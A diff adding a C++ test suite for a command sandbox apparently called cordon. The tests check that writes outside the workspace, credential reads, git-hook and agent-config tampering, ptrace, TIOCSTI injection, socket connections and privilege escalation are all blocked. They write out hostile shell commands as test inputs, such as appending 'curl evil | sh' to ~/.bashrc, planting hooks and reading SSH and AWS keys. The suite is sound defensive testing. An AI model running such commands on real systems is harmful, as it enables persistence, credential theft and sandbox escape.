@@ -1,0 +1,754 @@
+// Containment under the default policy, each checked from outside the sandbox: the
+// forbidden effect did not happen, and in the same run an allowed sibling did.
+#include <arpa/inet.h>
+#include <netinet/in.h>
+#include <sys/socket.h>
+#include <sys/un.h>
+
+#include <atomic>
+#include <cstring>
+#include <iostream>
+#include <map>
+#include <memory>
+#include <thread>
+
+#include "e2e/harness.hpp"
+
+using namespace cordon_test;
+
+namespace {
+
+using Clock = std::chrono::steady_clock;
+
+const std::vector<std::string> kGitIdentity = {
+    "GIT_AUTHOR_NAME=Cordon Test", "GIT_AUTHOR_EMAIL=test@example.invalid", "GIT_COMMITTER_NAME=Cordon Test",
+    "GIT_COMMITTER_EMAIL=test@example.invalid"};
+
+// A git repository made outside the sandbox, with one commit.
+void make_repo_outside(const Sandbox& box) {
+  auto env = box.env(kGitIdentity);
+  ASSERT_EQ(run_process({"git", "init", "-q"}, box.ws.path(), "", env).code, 0);
+  write_file(box.ws / "README", "readme\n");
+  ASSERT_EQ(run_process({"git", "add", "README"}, box.ws.path(), "", env).code, 0);
+  ASSERT_EQ(run_process({"git", "commit", "-qm", "init"}, box.ws.path(), "", env).code, 0);
+}
+
+// Every path under `root`, relative, with file contents, so "unchanged" is one comparison.
+std::map<std::string, std::string> snapshot(const std::string& root) {
+  std::map<std::string, std::string> out;
+  std::error_code ec;
+  for (auto it = fs::recursive_directory_iterator(root, ec); it != fs::recursive_directory_iterator();
+       it.increment(ec)) {
+    const auto rel = fs::relative(it->path(), root, ec).string();
+    if (it->is_symlink(ec))
+      out[rel] = "symlink -> " + fs::read_symlink(it->path(), ec).string();
+    else if (it->is_directory(ec))
+      out[rel] = "dir";
+    else
+      out[rel] = read_file(it->path().string());
+  }
+  return out;
+}
+
+// A child of the test running argv, outside any sandbox; killed and reaped at scope exit.
+class OutsideProcess {
+ public:
+  explicit OutsideProcess(const std::vector<std::string>& argv) {
+    pid_ = ::fork();
+    if (pid_ == 0) {
+      int null = ::open("/dev/null", O_RDWR);
+      ::dup2(null, 0);
+      ::dup2(null, 1);
+      ::dup2(null, 2);
+      std::vector<char*> a;
+      for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
+      a.push_back(nullptr);
+      ::execvp(a[0], a.data());
+      ::_exit(121);
+    }
+  }
+  ~OutsideProcess() {
+    if (pid_ > 0 && !reaped_) {
+      ::kill(pid_, SIGKILL);
+      ::waitpid(pid_, nullptr, 0);
+    }
+  }
+  pid_t pid() const { return pid_; }
+  // Still running and not stopped by a tracer or a signal.
+  bool running_untouched() {
+    int status = 0;
+    pid_t r = ::waitpid(pid_, &status, WNOHANG | WUNTRACED);
+    if (r == pid_ && !WIFSTOPPED(status)) reaped_ = true;
+    if (r != 0) return false;
+    std::ifstream f("/proc/" + std::to_string(pid_) + "/status");
+    for (std::string line; std::getline(f, line);) {
+      if (line.rfind("State:", 0) == 0 && (contains(line, "(stopped)") || contains(line, "tracing stop")))
+        return false;
+      if (line.rfind("TracerPid:", 0) == 0 && line.find_first_not_of(" \t0", 10) != std::string::npos)
+        return false;
+    }
+    return true;
+  }
+
+ private:
+  pid_t pid_ = -1;
+  bool reaped_ = false;
+};
+
+// Host processes whose command line contains `token` (other than zombies).
+std::vector<std::string> host_processes_with(const std::string& token) {
+  std::vector<std::string> found;
+  std::error_code ec;
+  for (const auto& entry : fs::directory_iterator("/proc", ec)) {
+    const std::string name = entry.path().filename().string();
+    if (name.find_first_not_of("0123456789") != std::string::npos) continue;
+    std::string cmdline = read_file(entry.path().string() + "/cmdline");
+    for (auto& c : cmdline)
+      if (c == '\0') c = ' ';
+    std::string stat = read_file(entry.path().string() + "/stat");
+    const bool zombie = contains(stat, ") Z ");
+    // cordon's own helpers (e.g. its placeholder cleaner) carry cordon's command line.
+    const bool cordon_itself = cmdline.rfind(cordon_binary() + " ", 0) == 0;
+    if (!zombie && !cordon_itself && contains(cmdline, token)) found.push_back(name + ": " + cmdline);
+  }
+  return found;
+}
+
+// Accepts connections on a socket in a background thread and counts them.
+class Listener {
+ public:
+  // A TCP listener on 127.0.0.1, ephemeral port.
+  static std::unique_ptr<Listener> tcp_loopback() {
+    int fd = ::socket(AF_INET, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_in a{};
+    a.sin_family = AF_INET;
+    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
+    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&a), sizeof a) != 0 || ::listen(fd, 16) != 0)
+      return nullptr;
+    socklen_t len = sizeof a;
+    ::getsockname(fd, reinterpret_cast<sockaddr*>(&a), &len);
+    return std::unique_ptr<Listener>(new Listener(fd, std::to_string(ntohs(a.sin_port))));
+  }
+  // A unix socket listener in the abstract namespace ("\0name").
+  static std::unique_ptr<Listener> abstract_unix(const std::string& name) {
+    int fd = ::socket(AF_UNIX, SOCK_STREAM | SOCK_CLOEXEC, 0);
+    sockaddr_un a{};
+    a.sun_family = AF_UNIX;
+    std::memcpy(a.sun_path + 1, name.data(), name.size());
+    auto len = static_cast<socklen_t>(offsetof(sockaddr_un, sun_path) + 1 + name.size());
+    if (fd < 0 || ::bind(fd, reinterpret_cast<sockaddr*>(&a), len) != 0 || ::listen(fd, 16) != 0)
+      return nullptr;
+    return std::unique_ptr<Listener>(new Listener(fd, name));
+  }
+  ~Listener() {
+    stop_ = true;
+    thread_.join();
+    ::close(fd_);
+  }
+  const std::string& address() const { return address_; }
+  int connections() const { return connections_; }
+
+ private:
+  Listener(int fd, std::string address) : fd_(fd), address_(std::move(address)) {
+    thread_ = std::thread([this] {
+      while (!stop_) {
+        pollfd p{fd_, POLLIN, 0};
+        if (::poll(&p, 1, 50) <= 0) continue;
+        int c = ::accept4(fd_, nullptr, nullptr, SOCK_CLOEXEC);
+        if (c >= 0) {
+          ++connections_;
+          ::close(c);
+        }
+      }
+    });
+  }
+  int fd_;
+  std::string address_;
+  std::atomic<bool> stop_{false};
+  std::atomic<int> connections_{0};
+  std::thread thread_;
+};
+
+// Starts `cordon run --no-config [opts] -- sh -c SCRIPT` in the background, output discarded.
+pid_t spawn_cordon(const Sandbox& box, const std::string& script, const std::vector<std::string>& opts = {}) {
+  std::vector<std::string> argv = {cordon_binary(), "run", "--no-config"};
+  argv.insert(argv.end(), opts.begin(), opts.end());
+  argv.insert(argv.end(), {"--", "sh", "-c", script});
+  const auto env = box.env();
+  pid_t pid = ::fork();
+  if (pid == 0) {
+    if (::chdir(box.ws.path().c_str()) != 0) ::_exit(122);
+    int null = ::open("/dev/null", O_RDWR);
+    ::dup2(null, 0);
+    ::dup2(null, 1);
+    ::dup2(null, 2);
+    for (const auto& e : env) ::putenv(const_cast<char*>(e.c_str()));
+    std::vector<char*> a;
+    for (const auto& s : argv) a.push_back(const_cast<char*>(s.c_str()));
+    a.push_back(nullptr);
+    ::execv(a[0], a.data());
+    ::_exit(121);
+  }
+  return pid;
+}
+
+// Waits for `pid` for up to timeout_ms; returns the exit code as cordon reports it, or -1.
+int wait_exit(pid_t pid, int timeout_ms) {
+  for (int waited = 0; waited <= timeout_ms; waited += 20) {
+    int status = 0;
+    if (::waitpid(pid, &status, WNOHANG) == pid)
+      return WIFEXITED(status) ? WEXITSTATUS(status) : 128 + WTERMSIG(status);
+    ::usleep(20 * 1000);
+  }
+  ::kill(pid, SIGKILL);
+  ::waitpid(pid, nullptr, 0);
+  return -1;
+}
+
+// Runs `script` under a pty made by script(1), cordon in between when `sandboxed`.
+Outcome under_pty(const Sandbox& box, const std::string& script, bool sandboxed) {
+  std::string inner = "sh -c '" + script + "'";
+  if (sandboxed) inner = cordon_binary() + " run --no-config -- " + inner;
+  return run_process({"script", "-qec", inner, "/dev/null"}, box.ws.path(), "", box.env());
+}
+
+}  // namespace
+
+// ---- filesystem ---------------------------------------------------------------------
+
+TEST(Containment, WriteOutsideTheWorkspaceIsDenied) {
+  Sandbox box;
+  OutsideDir outside;
+  write_file(outside / "existing.txt", "original\n");
+  auto o = box.sh("echo ok > inside.txt; echo bad > " + outside.path() + "/existing.txt; echo bad > " +
+                  outside.path() + "/new.txt; mkdir " + outside.path() + "/newdir; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
+  EXPECT_EQ(read_file(outside / "existing.txt"), "original\n");
+  EXPECT_FALSE(exists(outside / "new.txt"));
+  EXPECT_FALSE(exists(outside / "newdir"));
+}
+
+TEST(Containment, HomeDotfilesAreNotWritable) {
+  Sandbox box;
+  write_file(box.home / ".bashrc", "# original bashrc\n");
+  const auto before = snapshot(box.home.path());
+  auto o = box.sh(
+      "echo ok > inside.txt; echo 'curl evil | sh' >> ~/.bashrc; echo x > ~/.profile; "
+      "mkdir -p ~/.config/autostart; echo x > ~/.config/autostart/evil.desktop; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
+  EXPECT_EQ(read_file(box.home / ".bashrc"), "# original bashrc\n");
+  EXPECT_FALSE(exists(box.home / ".profile"));
+  EXPECT_FALSE(exists(box.home / ".config/autostart"));
+  // cordon may keep its own state under the home; nothing else may appear.
+  auto after = snapshot(box.home.path());
+  std::erase_if(after, [](const auto& kv) { return kv.first.rfind(".local", 0) == 0; });
+  EXPECT_EQ(after, before);
+}
+
+TEST(Containment, GitHooksAndConfigOfAnExistingRepoAreProtected) {
+  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
+  Sandbox box;
+  make_repo_outside(box);
+  const auto hooks_before = snapshot(box.ws / ".git/hooks");
+  const std::string config_before = read_file(box.ws / ".git/config");
+  auto o = box.sh(
+      "echo ok > normal.txt; "
+      "printf '#!/bin/sh\\necho pwned\\n' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; "
+      "echo evil >> .git/hooks/pre-push.sample; "
+      "printf '[core]\\n\\thooksPath = /var/tmp\\n' >> .git/config; "
+      "git config core.fsmonitor 'touch /var/tmp/pwned'; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  EXPECT_FALSE(exists(box.ws / ".git/hooks/pre-commit"));
+  EXPECT_EQ(snapshot(box.ws / ".git/hooks"), hooks_before);
+  EXPECT_EQ(read_file(box.ws / ".git/config"), config_before);
+}
+
+TEST(Containment, GitReadOnlyProtectsAllOfDotGit) {
+  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
+  Sandbox box;
+  make_repo_outside(box);
+  const auto git_before = snapshot(box.ws / ".git");
+  auto o = box.sh("echo ok > normal.txt; git add normal.txt; echo evil > .git/HEAD; true",
+                  {"--git", "read-only"}, "", kGitIdentity);
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
+  EXPECT_EQ(snapshot(box.ws / ".git"), git_before);
+}
+
+// A repository created inside the sandbox had no protected paths during the run, so its
+// hooks and code-running config are neutralised afterwards, before git runs them outside.
+TEST(Containment, RepositoryCreatedInsideCannotRunCodeOutsideLater) {
+  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
+  Sandbox box;
+  OutsideDir markers;
+  const std::string hook_marker = markers / "hook-ran", fsmonitor_marker = markers / "fsmonitor-ran";
+  write_file(box.ws / "hook.sh", "#!/bin/sh\ntouch " + hook_marker + "\n");
+  auto o = box.sh(
+      "git init -q && install -m 755 hook.sh .git/hooks/pre-commit && "
+      "git config core.fsmonitor 'touch " +
+          fsmonitor_marker +
+          "; false' && "
+          "git add hook.sh && git commit -qm inside --no-verify && echo set-up",
+      {}, "", kGitIdentity);
+  EXPECT_TRUE(contains(o.out, "set-up")) << o.out << o.err;
+  EXPECT_TRUE(contains(o.err, "pre-commit")) << "cordon should say what it disabled:\n" << o.err;
+
+  // Outside, git still works on the repository, and neither the hook nor fsmonitor runs.
+  const auto env = box.env(kGitIdentity);
+  auto status = run_process({"git", "status", "--short"}, box.ws.path(), "", env);
+  EXPECT_EQ(status.code, 0) << status.err;
+  auto commit = run_process({"git", "commit", "-qm", "outside", "--allow-empty"}, box.ws.path(), "", env);
+  EXPECT_EQ(commit.code, 0) << commit.err;
+  auto log = run_process({"git", "log", "--format=%s"}, box.ws.path(), "", env);
+  EXPECT_EQ(log.out, "outside\ninside\n");
+  EXPECT_FALSE(exists(hook_marker));
+  EXPECT_FALSE(exists(fsmonitor_marker));
+  EXPECT_NE(::access((box.ws / ".git/hooks/pre-commit").c_str(), X_OK), 0);
+}
+
+TEST(Containment, SymlinkInTheWorkspacePointingOutsideDoesNotEscape) {
+  Sandbox box;
+  OutsideDir outside;
+  write_file(outside / "target.txt", "original\n");
+  ASSERT_EQ(::symlink((outside / "target.txt").c_str(), (box.ws / "file-link").c_str()), 0);
+  ASSERT_EQ(::symlink(outside.path().c_str(), (box.ws / "dir-link").c_str()), 0);
+  auto o = box.sh(
+      "echo ok > inside.txt; echo bad > file-link; echo bad > dir-link/new.txt; "
+      "ln -s " +
+      outside.path() + "/target.txt made-inside; echo bad > made-inside; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n");
+  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
+  EXPECT_FALSE(exists(outside / "new.txt"));
+}
+
+TEST(Containment, SandboxCannotHardlinkAnOutsideFileIntoTheWorkspace) {
+  Sandbox box;
+  OutsideDir outside;
+  write_file(outside / "target.txt", "original\n");
+  write_file(box.ws / "own.txt", "own\n");
+  auto o = box.sh("ln own.txt own-link && echo linked-own; ln " + outside.path() +
+                  "/target.txt stolen && echo linked-outside; echo bad > stolen; true");
+  EXPECT_TRUE(contains(o.out, "linked-own")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "linked-outside")) << o.out;
+  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
+}
+
+// A hardlink made beforehand (outside the sandbox) names the same inode as the outside file.
+TEST(Containment, HardlinkMadeBeforehandDoesNotLetTheSandboxWriteTheOutsideFile) {
+  Sandbox box;
+  OutsideDir outside;
+  write_file(outside / "target.txt", "original\n");
+  if (::link((outside / "target.txt").c_str(), (box.ws / "hardlink").c_str()) != 0)
+    GTEST_SKIP() << "cannot hardlink " << outside.path() << " into " << box.ws.path() << ": "
+                 << std::strerror(errno) << " (different filesystems or protected_hardlinks)";
+  auto o = box.sh("echo ok > inside.txt; echo bad > hardlink; true");
+  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n") << o.err;
+  EXPECT_EQ(read_file(outside / "target.txt"), "original\n");
+}
+
+TEST(Containment, RenamingProtectedDirectoriesAwayFails) {
+  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
+  Sandbox box;
+  make_repo_outside(box);
+  const auto git_before = snapshot(box.ws / ".git/hooks");
+  const std::string config_before = read_file(box.ws / ".git/config");
+  auto o = box.sh(
+      "echo ok > normal.txt; "
+      "mv .git/hooks .git/h2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
+      "mv .git/config .git/config.old; echo evil > .git/config; "
+      "mv .git .git2; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; "
+      "mv .git2/hooks .git2/h3; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  EXPECT_FALSE(exists(box.ws / ".git2"));
+  EXPECT_FALSE(exists(box.ws / ".git/h2"));
+  EXPECT_FALSE(exists(box.ws / ".git/config.old"));
+  EXPECT_FALSE(exists(box.ws / ".git/hooks/pre-commit"));
+  EXPECT_EQ(snapshot(box.ws / ".git/hooks"), git_before);
+  EXPECT_EQ(read_file(box.ws / ".git/config"), config_before);
+}
+
+TEST(Containment, RenamingAgentConfigDirectoryAwayFails) {
+  Sandbox box;
+  write_file(box.ws / ".claude/settings.json", "{}\n");
+  auto o = box.sh(
+      "echo ok > normal.txt; mv .claude .claude-old; mkdir -p .claude; "
+      "echo '{\"hooks\":1}' > .claude/settings.json; true");
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
+  EXPECT_FALSE(exists(box.ws / ".claude-old"));
+  EXPECT_EQ(read_file(box.ws / ".claude/settings.json"), "{}\n");
+}
+
+TEST(Containment, MissingProtectedPathsCannotBeCreated) {
+  if (!have_tool("git")) GTEST_SKIP() << "git is not installed";
+  Sandbox box;
+  make_repo_outside(box);
+  fs::remove_all(box.ws / ".git/hooks");
+  const auto before = snapshot(box.ws.path());
+  auto o = box.sh(
+      "echo ok > normal.txt; "
+      "mkdir -p .claude; echo '{}' > .claude/settings.json; "
+      "mkdir -p .vscode; echo '{}' > .vscode/tasks.json; "
+      "mkdir -p .cordon; echo 'mode = \"full-access\"' > .cordon/config.toml; "
+      "mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit; true");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n");
+  // Nothing was created: at most cordon's own empty placeholders are still there...
+  auto after = snapshot(box.ws.path());
+  after.erase("normal.txt");
+  std::erase_if(after, [&](const auto& kv) {
+    return kv.second == "dir" && !before.count(kv.first) && fs::is_empty(box.ws / kv.first);
+  });
+  EXPECT_EQ(after, before);
+  // ...and once cordon has cleaned up, the workspace looks exactly as before.
+  auto settled = snapshot(box.ws.path());
+  for (int waited = 0; waited < 5000 && settled.size() != before.size() + 1; waited += 50) {
+    ::usleep(50 * 1000);
+    settled = snapshot(box.ws.path());
+  }
+  settled.erase("normal.txt");
+  EXPECT_EQ(settled, before);
+  EXPECT_FALSE(exists(box.ws / ".claude"));
+  EXPECT_FALSE(exists(box.ws / ".vscode"));
+  EXPECT_FALSE(exists(box.ws / ".cordon"));
+  EXPECT_FALSE(exists(box.ws / ".git/hooks"));
+}
+
+TEST(Containment, ExtraProtectedPathStaysReadOnly) {
+  Sandbox box;
+  write_file(box.ws / "ci/deploy.sh", "echo deploy\n");
+  auto o = box.sh("echo ok > normal.txt; echo evil > ci/deploy.sh; echo x > ci/new.sh; true",
+                  {"--protect", box.ws / "ci"});
+  EXPECT_EQ(read_file(box.ws / "normal.txt"), "ok\n") << o.err;
+  EXPECT_EQ(read_file(box.ws / "ci/deploy.sh"), "echo deploy\n");
+  EXPECT_FALSE(exists(box.ws / "ci/new.sh"));
+}
+
+// ---- reads ----------------------------------------------------------------------------
+
+TEST(Containment, SecretsInHomeAreUnreadableButOtherHomeFilesAreNot) {
+  Sandbox box;
+  write_file(box.home / "notes.txt", "visible-notes\n");
+  write_file(box.home / ".ssh/id_rsa", "SECRET-SSH-KEY\n");
+  write_file(box.home / ".aws/credentials", "SECRET-AWS\n");
+  write_file(box.home / ".netrc", "SECRET-NETRC\n");
+  write_file(box.home / ".config/gh/hosts.yml", "SECRET-GH\n");
+  auto o = box.sh(
+      "cat ~/notes.txt; cat ~/.ssh/id_rsa ~/.aws/credentials ~/.netrc ~/.config/gh/hosts.yml; "
+      "ls -a ~/.ssh; true");
+  EXPECT_TRUE(contains(o.out, "visible-notes")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
+  EXPECT_FALSE(contains(o.out, "id_rsa")) << "the directory listing must not show the key either:\n" << o.out;
+}
+
+TEST(Containment, AllowReadReopensOneSecret) {
+  Sandbox box;
+  write_file(box.home / ".npmrc", "registry-config\n");
+  write_file(box.home / ".netrc", "SECRET-NETRC\n");
+  auto o = box.sh("cat ~/.npmrc ~/.netrc; true", {"--allow-read", box.home / ".npmrc"});
+  EXPECT_TRUE(contains(o.out, "registry-config")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
+}
+
+TEST(Containment, DenyReadHidesAWorkspaceFile) {
+  Sandbox box;
+  write_file(box.ws / "secret.txt", "SECRET-WS\n");
+  write_file(box.ws / "public.txt", "public\n");
+  auto o = box.sh("cat public.txt secret.txt; true", {"--deny-read", box.ws / "secret.txt"});
+  EXPECT_TRUE(contains(o.out, "public")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "SECRET")) << o.out;
+  EXPECT_EQ(read_file(box.ws / "secret.txt"), "SECRET-WS\n");
+}
+
+// ---- processes -----------------------------------------------------------------------
+
+TEST(Containment, ProcessOutsideCannotBeSignalled) {
+  Sandbox box;
+  OutsideProcess victim({"sleep", "30"});
+  ASSERT_TRUE(victim.running_untouched());
+  const std::string pid = std::to_string(victim.pid());
+  auto o = box.sh("sleep 30 & own=$!; kill $own && echo killed-own; kill " + pid + "; kill -KILL " + pid +
+                  "; kill -STOP " + pid + "; true");
+  EXPECT_TRUE(contains(o.out, "killed-own")) << o.out << o.err;
+  ::usleep(100 * 1000);
+  EXPECT_TRUE(victim.running_untouched());
+}
+
+TEST(Containment, ProcessOutsideCannotBePtraced) {
+  if (!have_tool("python3")) GTEST_SKIP() << "python3 is not installed";
+  Sandbox box;
+  OutsideProcess victim({"sleep", "30"});
+  const std::string pid = std::to_string(victim.pid());
+  // PTRACE_ATTACH = 16, PTRACE_SEIZE = 0x4206.
+  const std::string py =
+      "import ctypes, os\n"
+      "libc = ctypes.CDLL(None, use_errno=True)\n"
+      "for req in (16, 0x4206):\n"
+      "    r = libc.ptrace(req, " +
+      pid +
+      ", None, None)\n"
+      "    print('ptrace', req, r, os.strerror(ctypes.get_errno()))\n";
+  write_file(box.ws / "trace.py", py);
+  std::string script = "python3 trace.py";
+  if (have_tool("strace")) script += "; timeout 5 strace -p " + pid + " -e trace=none; echo strace=$?";
+  auto o = box.sh(script);
+  EXPECT_TRUE(contains(o.out, "ptrace 16 -1")) << o.out << o.err;
+  EXPECT_TRUE(contains(o.out, "ptrace 16902 -1")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "strace=0")) << o.out << o.err;
+  EXPECT_TRUE(victim.running_untouched());
+}
+
+TEST(Containment, SetsidDaemonDoesNotOutliveTheCommand) {
+  Sandbox box;
+  // The daemon beats into the workspace; after cordon exits the beat must stop, and no
+  // process carrying the daemon's unique sleep length may remain on the host.
+  const std::string token = "7." + std::to_string(::getpid()) + "9";
+  const std::string script =
+      "setsid sh -c 'sleep " + token +
+      " & while :; do date +%s%N > beat; sleep 0.05; done' </dev/null >/dev/null 2>&1 & "
+      "while ! test -s beat; do sleep 0.05; done; echo started";
+  {
+    // Without cordon the daemon survives and the scan finds it, so the check below can fail.
+    TempDir bare_dir;
+    auto bare = run_process({"sh", "-c", script}, bare_dir.path());
+    ASSERT_TRUE(contains(bare.out, "started")) << bare.err;
+    auto survivors = host_processes_with("sleep " + token);
+    EXPECT_FALSE(survivors.empty());
+    for (const auto& s : survivors) ::kill(std::stoi(s), SIGKILL);
+  }
+  auto start = Clock::now();
+  auto o = box.sh(script);
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_TRUE(contains(o.out, "started"));
+  EXPECT_LT(Clock::now() - start, std::chrono::seconds(5));
+  ::usleep(300 * 1000);
+  auto left = host_processes_with("sleep " + token);
+  EXPECT_TRUE(left.empty()) << left.front();
+  const std::string beat = read_file(box.ws / "beat");
+  ::usleep(300 * 1000);
+  EXPECT_EQ(read_file(box.ws / "beat"), beat);
+}
+
+TEST(Containment, TiocstiIntoTheCallersTerminalIsDenied) {
+  if (!have_tool("python3") || !have_tool("script")) GTEST_SKIP() << "needs python3 and script (util-linux)";
+  Sandbox box;
+  write_file(box.ws / "sti.py",
+             "import fcntl, os, sys, termios\n"
+             "print('tty' if os.isatty(0) else 'no-tty', flush=True)\n"
+             "fcntl.ioctl(0, termios.TIOCGWINSZ, b'\\0' * 8)\n"
+             "try:\n"
+             "    fcntl.ioctl(0, termios.TIOCSTI, b'x')\n"
+             "    print('injected')\n"
+             "except OSError as e:\n"
+             "    print('denied', e.errno)\n");
+  // Outside cordon the same script injects (where the kernel allows it), so the probe works.
+  auto bare = under_pty(box, "python3 sti.py", false);
+  auto o = under_pty(box, "python3 sti.py", true);
+  EXPECT_TRUE(contains(o.out, "tty")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "no-tty")) << o.out;
+  EXPECT_TRUE(contains(o.out, "denied")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "injected")) << o.out;
+  if (!contains(bare.out, "injected"))
+    std::cout << "[ note ] TIOCSTI is refused by this kernel even outside cordon\n";
+}
+
+TEST(Containment, NoNewPrivilegesAndNoCapabilities) {
+  Sandbox box;
+  auto o = box.sh("grep -E '^(NoNewPrivs|CapEff|CapPrm|CapAmb):' /proc/self/status");
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_TRUE(contains(o.out, "NoNewPrivs:\t1")) << o.out;
+  EXPECT_TRUE(contains(o.out, "CapEff:\t0000000000000000")) << o.out;
+  EXPECT_TRUE(contains(o.out, "CapPrm:\t0000000000000000")) << o.out;
+}
+
+TEST(Containment, SetuidBinariesDoNotChangeTheUser) {
+  Sandbox box;
+  if (is_root()) {
+    // A setuid program owned by nobody: outside, root running it becomes nobody, which shows
+    // setuid works on this filesystem; inside, the transition must not happen.
+    if (!have_tool("cc")) GTEST_SKIP() << "no C compiler to build the setuid probe";
+    OutsideDir bin;
+    write_file(bin / "euid.c",
+               "#include <stdio.h>\n#include <unistd.h>\nint "
+               "main(void){printf(\"euid=%u\\n\",(unsigned)geteuid());return 0;}\n");
+    ASSERT_EQ(run_process({"cc", "-o", bin / "euid", bin / "euid.c"}, bin.path()).code, 0);
+    ASSERT_EQ(::chown((bin / "euid").c_str(), 65534, 65534), 0);
+    ASSERT_EQ(::chmod((bin / "euid").c_str(), 04755), 0);
+    auto bare = run_process({bin / "euid"}, bin.path());
+    if (bare.out != "euid=65534\n")
+      GTEST_SKIP() << "setuid does not take effect here even outside cordon: " << bare.out;
+    auto o = box.sh(bin / "euid");
+    EXPECT_EQ(o.out, "euid=" + std::to_string(::geteuid()) + "\n") << o.err;
+  } else {
+    if (!exists("/usr/bin/su")) GTEST_SKIP() << "no /usr/bin/su to try";
+    auto o = box.sh("su -c 'id -u > became.txt' root </dev/null; echo su=$?; id -u");
+    EXPECT_FALSE(exists(box.ws / "became.txt")) << o.out << o.err;
+    EXPECT_TRUE(contains(o.out, "\n" + std::to_string(::getuid()) + "\n")) << o.out;
+    if (have_tool("sudo")) {
+      auto s = box.sh("sudo -n id -u > became.txt; echo sudo=$?");
+      EXPECT_FALSE(contains(read_file(box.ws / "became.txt"), "0\n")) << s.out << s.err;
+    }
+  }
+}
+
+// ---- network ----------------------------------------------------------------------------
+
+TEST(Containment, LoopbackListenerOutsideIsUnreachableWithNetOff) {
+  if (!have_tool("bash")) GTEST_SKIP() << "bash is not installed (used for /dev/tcp)";
+  Sandbox box;
+  auto listener = Listener::tcp_loopback();
+  ASSERT_TRUE(listener);
+  const std::string connect =
+      "bash -c 'exec 3<>/dev/tcp/127.0.0.1/" + listener->address() + "' && echo connected";
+  auto off = box.sh(connect + "; true");
+  EXPECT_FALSE(contains(off.out, "connected")) << off.out << off.err;
+  ::usleep(200 * 1000);
+  EXPECT_EQ(listener->connections(), 0);
+
+  // The same probe with the network on reaches the listener, so it can detect a leak.
+  auto on = box.sh(connect, {"--net", "on"});
+  EXPECT_TRUE(contains(on.out, "connected")) << on.out << on.err;
+  for (int i = 0; i < 50 && listener->connections() == 0; ++i) ::usleep(20 * 1000);
+  EXPECT_EQ(listener->connections(), 1);
+}
+
+TEST(Containment, AbstractUnixSocketOutsideIsUnreachable) {
+  if (!have_tool("python3")) GTEST_SKIP() << "python3 is not installed";
+  Sandbox box;
+  const std::string name = unique_token("cordon-test-abstract-");
+  auto listener = Listener::abstract_unix(name);
+  ASSERT_TRUE(listener);
+  write_file(box.ws / "connect.py",
+             "import socket, sys\n"
+             "s = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)\n"
+             "try:\n"
+             "    s.connect('\\0' + sys.argv[1])\n"
+             "    print('connected')\n"
+             "except OSError as e:\n"
+             "    print('refused', e.errno)\n");
+  // A client outside connects, so the probe works.
+  auto bare = run_process({"python3", box.ws / "connect.py", name}, box.ws.path());
+  EXPECT_TRUE(contains(bare.out, "connected")) << bare.out << bare.err;
+  for (int i = 0; i < 50 && listener->connections() == 0; ++i) ::usleep(20 * 1000);
+  ASSERT_EQ(listener->connections(), 1);
+
+  auto o = box.sh("python3 connect.py " + name);
+  EXPECT_TRUE(contains(o.out, "refused")) << o.out << o.err;
+  ::usleep(200 * 1000);
+  EXPECT_EQ(listener->connections(), 1);
+}
+
+// ---- modes, roots, environment ----------------------------------------------------------
+
+TEST(Containment, TmpNoneGivesAnEmptyReadOnlyTmp) {
+  Sandbox box;
+  auto o = box.sh("echo ok > inside.txt; ls -A /tmp | wc -l; echo x > /tmp/new && echo wrote-tmp; true",
+                  {"--tmp", "none"});
+  EXPECT_EQ(read_file(box.ws / "inside.txt"), "ok\n") << o.err;
+  EXPECT_TRUE(contains(o.out, "0\n")) << o.out << o.err;
+  EXPECT_FALSE(contains(o.out, "wrote-tmp")) << o.out;
+}
+
+TEST(Containment, TmpHostSharesTheRealTmp) {
+  Sandbox box;
+  const std::string name = "/tmp/" + unique_token("cordon-host-tmp-");
+  auto o = box.sh("echo shared > " + name, {"--tmp", "host"});
+  const std::string seen = read_file(name);
+  ::unlink(name.c_str());
+  EXPECT_EQ(o.code, 0) << o.err;
+  EXPECT_EQ(seen, "shared\n");
+}
+
+TEST(Containment, ReadOnlyModeDeniesWorkspaceWritesButTmpStaysWritable) {
+  Sandbox box;
+  write_file(box.ws / "existing.txt", "original\n");
+  auto o =
+      box.sh("echo x > /tmp/scratch && cat /tmp/scratch; echo bad > existing.txt; echo bad > new.txt; true",
+             {"--mode", "read-only"});
+  EXPECT_EQ(o.out, "x\n") << o.err;
